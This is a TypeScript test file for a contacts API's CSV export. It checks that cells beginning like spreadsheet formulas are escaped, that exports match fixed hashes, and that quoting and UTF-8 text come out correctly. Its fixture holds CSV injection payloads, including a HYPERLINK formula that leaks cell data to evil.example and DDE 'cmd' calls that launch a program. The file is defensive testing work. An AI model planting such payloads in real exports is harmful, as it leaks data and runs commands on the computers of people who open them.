import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { AUTH, testMock } from '../test-client.ts';
import type { Contact } from '../../openapi/types.ts';
import { createMockApp } from '../app.ts';
import { CSV_COLUMNS, contactsCsv } from './contacts-csv.ts';

const P = '/v1/backend';
/** What csv-stringify wrote for the rows of the quoting test (see below), before it was replaced. */
const EXPECTED_TRICKY = [
  CSV_COLUMNS.join(','),
  ',"a,b",,,,,"cr\rhere",,"say ""hi""","two\nlines",,,,,"\'@""both""",\'=1+1,,,,,\'\ttab,\'＋－＠,\'＠at,\'quoted already,"\'-minus, with comma",\'＝wide,"\'\r\ncrlf","""",",",\',,,"{""labels"":[""a \\""b\\"""",""c,d""]}"',
  ',,,,,,plain,,,,,,,,,,,,,,,,,,,,,,,,,,{}',
  '',
].join('\n');

/** The cells of a CSV text, as csv-parse reads RFC 4180 (quotes, doubled quotes, line breaks). */
const cellsOf = (text: string): string[][] => parse(text, { relax_column_count: true });

describe('CSV export of values a spreadsheet would run', () => {
  // OWASP's "CSV injection": a cell starting with one of = + - @ tab CR is a formula to Excel,
  // LibreOffice and Google Sheets; a leading ' makes it text.
  const formulas = {
    first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    last_name: "+1+cmd|' /C calc'!A0",
    remark: "@SUM(1+1)*cmd|' /C calc'!A0",
    display_name: "-2+3+cmd|' /C calc'!A0",
    company_name: '\t=1+2',
    language: '\r=1+2',
  };

  it('escapes every cell that begins like a formula, written through the API first', async () => {
    const { request } = testMock({ contacts: 5 });
    const created = await request(`${P}/contacts`, {
      method: 'POST',
      headers: AUTH,
      json: {
        channel_type: 'email',
        first_name: formulas.first_name,
        last_name: formulas.last_name,
        remark: formulas.remark,
      },
    });
    expect(created.status).toBe(200);
    const id = created.body.id ?? created.body.data?.id;
    const { status } = await request(`${P}/contacts/${id}`, {
      method: 'PUT',
      headers: AUTH,
      json: {
        display_name: formulas.display_name,
        company_name: formulas.company_name,
        language: formulas.language,
      },
    });
    expect(status).toBe(200);

    const answer = await request(`${P}/contacts/_export_csv`, { headers: AUTH });
    const rows = cellsOf(answer.body);
    const row = rows.find((r) => r[CSV_COLUMNS.indexOf('id')] === id)!;
    const cell = (column: string) => row[CSV_COLUMNS.indexOf(column)];
    expect(cell('first_name')).toBe(`'${formulas.first_name}`);
    expect(cell('last_name')).toBe(`'${formulas.last_name}`);
    expect(cell('remark')).toBe(`'${formulas.remark}`);
    expect(cell('display_name')).toBe(`'${formulas.display_name}`);
    expect(cell('company_name')).toBe(`'${formulas.company_name}`);
    expect(cell('language')).toBe(`'${formulas.language}`);
    // Nothing else in the export starts like a formula.
    const risky = rows.flat().filter((value) => /^[=+\-@\t\r]/.test(value));
    expect(risky).toEqual([]);
  });
});

describe('CSV export, byte for byte', () => {
  // The SHA-256 of whole exports, taken from csv-stringify's output before the hand-written writer
  // replaced it: any change to a byte of the export (quoting, escaping, order, header) changes it.
  it.each([
    [1, 3000, '-created_at', '09bd1f2751824cfceee47d15679404a6bd5addaed22044564e9c2ef973357263'],
    [9, 2000, 'display_name', 'a3c83886208dc3df5978b295769778a1b32d46c34e97b80b07c3d683befd0b38'],
    [4, 1, 'email', '66149e9b6e55f0e38e1b3c5a261a74dfd094c6fa8242de1d05bfbc80f033dad9'],
    [4, 0, '-created_at', 'f47940c02e50fb062df951fa9993f651fe241b66e45bf5e4006ab55434a04241'],
  ])('seed %i, %i contacts, sorted by %s', async (seed, contacts, sort, digest) => {
    const { app } = createMockApp({ seed, contacts, tokens: [AUTH['x-access-token']] });
    const answer = await app.request(`${P}/contacts/_export_csv?sort=${sort}`, { headers: AUTH });
    expect(answer.status).toBe(200);
    const body = new Uint8Array(await answer.arrayBuffer());
    expect(createHash('sha256').update(body).digest('hex')).toBe(digest);
  });

  it('writes values that need quoting or escaping as it always did', async () => {
    const blank = Object.fromEntries(
      CSV_COLUMNS.map((column) => [column, '']),
    ) as unknown as Contact;
    const rows: Contact[] = [
      {
        ...blank,
        id: 'a,b',
        first_name: 'say "hi"',
        last_name: 'two\nlines',
        display_name: 'cr\rhere',
        remark: '=1+1',
        company_name: '-minus, with comma',
        position: '\uFF1Dwide',
        title: '\uFF0B\uFF0D\uFF20',
        location: "'quoted already",
        email: '@"both"',
        updated_at: null,
        birthday: '\uFF20at',
        odooContactID: '\ttab',
        whatsapp_id: '\r\ncrlf',
        facebook_id: '"',
        messenger_id: ',',
        wechat_id: "'",
        additional_params: { labels: ['a "b"', 'c,d'] },
      },
      { ...blank, display_name: 'plain', additional_params: {} },
    ];
    const text = await new Response(contactsCsv(rows)).text();
    expect(text).toBe(EXPECTED_TRICKY);
  });

  it('writes non-ASCII text as UTF-8, and cells longer than a chunk whole', async () => {
    // Checked byte for byte against csv-stringify when the writer replaced it.
    const blank = Object.fromEntries(
      CSV_COLUMNS.map((column) => [column, '']),
    ) as unknown as Contact;
    const long = 'x'.repeat(300_000);
    const quoted = 'é"'.repeat(100_000);
    const row = {
      ...blank,
      first_name: 'Zoë',
      last_name: '王小明',
      display_name: '-Zoë 王',
      remark: 'emoji 😀, "quoted"',
      location: '＝not',
      title: long,
      company_name: quoted,
      additional_params: { labels: ['日本'] },
    };
    const cells = CSV_COLUMNS.map(() => '');
    const at = (column: string) => CSV_COLUMNS.indexOf(column);
    cells[at('first_name')] = 'Zoë';
    cells[at('last_name')] = '王小明';
    cells[at('display_name')] = "'-Zoë 王";
    cells[at('remark')] = '"emoji 😀, ""quoted"""';
    cells[at('location')] = "'＝not";
    cells[at('title')] = long;
    cells[at('company_name')] = `"${'é""'.repeat(100_000)}"`;
    cells[at('additional_params')] = '"{""labels"":[""日本""]}"';
    const bytes = new Uint8Array(await new Response(contactsCsv([row, row])).arrayBuffer());
    const line = `${cells.join(',')}\n`;
    expect(new TextDecoder().decode(bytes)).toBe(`${CSV_COLUMNS.join(',')}\n${line}${line}`);
  });
});
